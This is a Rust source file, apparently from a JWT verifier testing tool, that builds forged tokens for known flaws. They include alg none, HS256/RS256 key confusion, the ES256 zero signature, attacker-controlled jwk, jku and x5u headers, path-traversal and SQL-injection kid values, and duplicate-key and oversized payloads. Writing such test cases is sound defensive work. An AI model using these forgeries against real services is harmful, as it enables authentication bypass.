//! Builders for the algorithm, signature, header-injection and parser families.

use serde_json::{Map, Value};

use super::ctx::Ctx;
use super::forge::{Forged, Sig, json, raw, shown, signed};
use crate::encoding::{b64url, pem_encode};
use crate::error::{Error, Result};
use crate::keys::{KeyAlg, SigningKey};
use crate::paths;

fn header_with(c: &Ctx<'_>, change: impl FnOnce(&mut Map<String, Value>)) -> Map<String, Value> {
    let mut h = c.header.clone();
    change(&mut h);
    h
}

pub(super) fn alg_none(c: &Ctx<'_>, alg: &str) -> Result<Forged> {
    let h = header_with(c, |h| {
        h.insert("alg".into(), alg.into());
    });
    signed(&h, &c.claims, &Sig::Empty)
}

fn hs256(c: &Ctx<'_>, secret: Vec<u8>) -> Result<Forged> {
    let h = header_with(c, |h| {
        h.insert("alg".into(), "HS256".into());
    });
    signed(&h, &c.claims, &Sig::Hmac(secret))
}

pub(super) fn hs256_pem(c: &Ctx<'_>) -> Result<Forged> {
    hs256(
        c,
        pem_encode("PUBLIC KEY", &c.active().public_spki_der()?).into_bytes(),
    )
}

pub(super) fn hs256_der(c: &Ctx<'_>) -> Result<Forged> {
    hs256(c, c.active().public_spki_der()?)
}

pub(super) fn hs256_jwk(c: &Ctx<'_>) -> Result<Forged> {
    let jwk =
        serde_json::to_vec(c.active().public_jwk()).map_err(|e| Error::crypto(e.to_string()))?;
    hs256(c, jwk)
}

pub(super) fn hs256_modulus(c: &Ctx<'_>) -> Result<Forged> {
    let n = c.active().public_jwk().n.clone().unwrap_or_default();
    hs256(c, crate::encoding::b64url_decode(&n).unwrap_or_default())
}

pub(super) fn ps256(c: &Ctx<'_>) -> Result<Forged> {
    let h = header_with(c, |h| {
        h.insert("alg".into(), "PS256".into());
    });
    signed(&h, &c.claims, &Sig::Ps256(c.active()))
}

pub(super) fn psychic(c: &Ctx<'_>) -> Result<Forged> {
    let ring = &c.workspace.keys;
    let ec = ring.published_of(KeyAlg::Es256, c.now).ok_or_else(|| {
        Error::invalid(
            "case",
            "es256-psychic-signature needs a published ES256 key: `stepmint keys add --alg ES256`",
        )
    })?;
    let h = header_with(c, |h| {
        h.insert("alg".into(), "ES256".into());
        h.insert("kid".into(), ec.kid().into());
    });
    Ok(signed(&h, &c.claims, &Sig::Raw(vec![0; 64]))?.note("signature is r = 0, s = 0"))
}

pub(super) fn two_parts(c: &Ctx<'_>) -> Result<Forged> {
    let mut f = signed(&c.header, &c.claims, &c.genuine())?;
    if let Some(pos) = f.token.rfind('.') {
        f.token.truncate(pos);
    }
    Ok(f)
}

fn attacker_signed(
    c: &Ctx<'_>,
    change: impl FnOnce(&mut Map<String, Value>, &SigningKey),
) -> Result<Forged> {
    let key = &c.attacker()?.rs256;
    let h = header_with(c, |h| change(h, key));
    signed(&h, &c.claims, &Sig::Key(key))
}

pub(super) fn wrong_key_trusted_kid(c: &Ctx<'_>) -> Result<Forged> {
    attacker_signed(c, |_, _| {})
}

pub(super) fn unknown_kid(c: &Ctx<'_>) -> Result<Forged> {
    attacker_signed(c, |h, k| {
        h.insert("kid".into(), k.kid().into());
    })
}

pub(super) fn embedded_jwk(c: &Ctx<'_>) -> Result<Forged> {
    attacker_signed(c, |h, k| {
        h.insert(
            "jwk".into(),
            serde_json::to_value(k.public_jwk()).unwrap_or(Value::Null),
        );
    })
}

pub(super) fn jku(c: &Ctx<'_>) -> Result<Forged> {
    let url = paths::attacker_jwks_url(c.public_url, &c.workspace.slug);
    attacker_signed(c, |h, _| {
        h.insert("jku".into(), url.into());
    })
}

pub(super) fn x5u(c: &Ctx<'_>) -> Result<Forged> {
    let url = paths::attacker_cert_url(c.public_url, &c.workspace.slug);
    attacker_signed(c, |h, _| {
        h.insert("x5u".into(), url.into());
    })
}

pub(super) fn not_yet_published(c: &Ctx<'_>) -> Result<Forged> {
    let next = c.staged()?;
    let h = header_with(c, |h| {
        h.insert("kid".into(), next.kid().into());
    });
    Ok(signed(&h, &c.claims, &Sig::Key(next))?
        .note("the kid is staged: `stepmint keys rotate` publishes it"))
}

pub(super) fn padded(c: &Ctx<'_>) -> Result<Forged> {
    // Grow the header with a harmless member until its encoding needs padding.
    let mut h = c.header.clone();
    let mut pad = String::new();
    loop {
        h.insert("x-pad".into(), pad.clone().into());
        if json(&h)?.len() % 3 != 0 {
            break;
        }
        pad.push('x');
    }
    let (hj, pj) = (json(&h)?, json(&c.claims)?);
    let padb64 = |b: &[u8]| {
        let s = b64url(b);
        let n = (4 - s.len() % 4) % 4;
        format!("{s}{}", "=".repeat(n))
    };
    let input = format!("{}.{}", padb64(&hj), padb64(&pj));
    let sig = c.active().sign(input.as_bytes())?;
    Ok(Forged {
        token: format!("{input}.{}", padb64(&sig)),
        header: Value::Object(h),
        claims: Value::Object(c.claims.clone()),
        notes: vec!["padding is inside the signed text".into()],
        case: None,
    })
}

pub(super) fn non_canonical(c: &Ctx<'_>) -> Result<Forged> {
    let mut f = signed(&c.header, &c.claims, &c.genuine())?;
    // A 256-byte signature encodes to 342 characters; the last carries 2 data bits and 4 unused
    // ones. Setting an unused bit changes the text but not what lenient decoders return.
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    if let Some(last) = f.token.pop() {
        let idx = ALPHABET.iter().position(|&b| b == last as u8).unwrap_or(0);
        f.token.push(ALPHABET[(idx | 1) & 63] as char);
    }
    Ok(f.note("the signature's last character has a non-zero unused bit"))
}

pub(super) fn json_serialized(c: &Ctx<'_>) -> Result<Forged> {
    let f = signed(&c.header, &c.claims, &c.genuine())?;
    let parts: Vec<&str> = f.token.split('.').collect();
    let token =
        serde_json::json!({ "protected": parts[0], "payload": parts[1], "signature": parts[2] })
            .to_string();
    Ok(Forged { token, ..f })
}

pub(super) fn jwe_shaped(c: &Ctx<'_>) -> Result<Forged> {
    let mut h = Map::new();
    h.insert("alg".into(), "RSA-OAEP".into());
    h.insert("enc".into(), "A256GCM".into());
    h.insert("kid".into(), c.trusted_kid().into());
    let body = json(&c.claims)?;
    let token = format!(
        "{}.{}.{}.{}.{}",
        b64url(&json(&h)?),
        b64url(&[7u8; 256]),
        b64url(&[1u8; 12]),
        b64url(&body),
        b64url(&[2u8; 16])
    );
    Ok(Forged {
        token,
        header: Value::Object(h),
        claims: Value::Object(c.claims.clone()),
        notes: vec!["not encrypted: the 'ciphertext' is the claims".into()],
        case: None,
    })
}

fn hs256_kid(c: &Ctx<'_>, kid: &str, secret: &[u8]) -> Result<Forged> {
    let h = header_with(c, |h| {
        h.insert("alg".into(), "HS256".into());
        h.insert("kid".into(), kid.into());
    });
    signed(&h, &c.claims, &Sig::Hmac(secret.to_vec()))
}

pub(super) fn kid_traversal(c: &Ctx<'_>) -> Result<Forged> {
    hs256_kid(c, "../../../../../../dev/null", b"")
}

pub(super) fn kid_sql(c: &Ctx<'_>) -> Result<Forged> {
    hs256_kid(c, "x' UNION SELECT 'stepmint' -- ", b"stepmint")
}

pub(super) fn crit_unknown(c: &Ctx<'_>) -> Result<Forged> {
    let h = header_with(c, |h| {
        h.insert("crit".into(), serde_json::json!(["urn:stepmint:unknown"]));
        h.insert("urn:stepmint:unknown".into(), true.into());
    });
    signed(&h, &c.claims, &c.genuine())
}

pub(super) fn b64_false(c: &Ctx<'_>) -> Result<Forged> {
    let h = header_with(c, |h| {
        h.insert("b64".into(), false.into());
        h.insert("crit".into(), serde_json::json!(["b64"]));
    });
    // The unencoded payload must hold no '.'; JSON lets strings spell it \u002e.
    let payload = String::from_utf8_lossy(&json(&c.claims)?).replace('.', "\\u002e");
    let input = format!("{}.{payload}", b64url(&json(&h)?));
    let sig = c.active().sign(input.as_bytes())?;
    Ok(Forged {
        token: format!("{input}.{}", b64url(&sig)),
        header: Value::Object(h),
        claims: shown(payload.as_bytes()),
        notes: vec!["payload is not base64url-encoded".into()],
        case: None,
    })
}

pub(super) fn zip_def(c: &Ctx<'_>) -> Result<Forged> {
    let h = header_with(c, |h| {
        h.insert("zip".into(), "DEF".into());
    });
    let deflated = miniz_oxide::deflate::compress_to_vec(&json(&c.claims)?, 6);
    let mut f = raw(&json(&h)?, &deflated, &c.genuine())?;
    f.claims = Value::Object(c.claims.clone());
    Ok(f.note("payload is DEFLATE-compressed"))
}

fn payload_text(c: &Ctx<'_>) -> Result<String> {
    Ok(String::from_utf8_lossy(&json(&c.claims)?).into_owned())
}

pub(super) fn duplicate_aud_good_last(c: &Ctx<'_>) -> Result<Forged> {
    let text = payload_text(c)?;
    let payload = format!("{{\"aud\":\"https://attacker.invalid\",{}", &text[1..]);
    raw(&json(&c.header)?, payload.as_bytes(), &c.genuine())
}

pub(super) fn duplicate_aud_bad_last(c: &Ctx<'_>) -> Result<Forged> {
    let text = payload_text(c)?;
    let payload = format!(
        "{},\"aud\":\"https://attacker.invalid\"}}",
        &text[..text.len() - 1]
    );
    raw(&json(&c.header)?, payload.as_bytes(), &c.genuine())
}

pub(super) fn duplicate_alg(c: &Ctx<'_>) -> Result<Forged> {
    let text = String::from_utf8_lossy(&json(&c.header)?).into_owned();
    let header = format!("{},\"alg\":\"none\"}}", &text[..text.len() - 1]);
    raw(header.as_bytes(), &json(&c.claims)?, &c.genuine())
}

pub(super) fn deep_nesting(c: &Ctx<'_>) -> Result<Forged> {
    let text = payload_text(c)?;
    let payload = format!(
        "{},\"nest\":{}{}}}",
        &text[..text.len() - 1],
        "[".repeat(5000),
        "]".repeat(5000)
    );
    let mut f = raw(&json(&c.header)?, payload.as_bytes(), &c.genuine())?;
    f.claims = Value::String(format!(
        "{}... ({} bytes)",
        payload.chars().take(200).collect::<String>(),
        payload.len()
    ));
    Ok(f)
}

pub(super) fn huge(c: &Ctx<'_>) -> Result<Forged> {
    let mut claims = c.claims.clone();
    claims.insert("pad".into(), "A".repeat(1024 * 1024).into());
    let mut f = signed(&c.header, &claims, &c.genuine())?;
    f.claims = Value::String(format!(
        "{} claims plus a 1 MiB `pad` string",
        c.claims.len()
    ));
    let len = f.token.len();
    Ok(f.note(format!("{len} bytes")))
}

pub(super) fn raw_nul(c: &Ctx<'_>) -> Result<Forged> {
    let text = payload_text(c)?;
    let payload = format!("{},\"note\":\"a\u{0}b\"}}", &text[..text.len() - 1]);
    raw(&json(&c.header)?, payload.as_bytes(), &c.genuine())
}
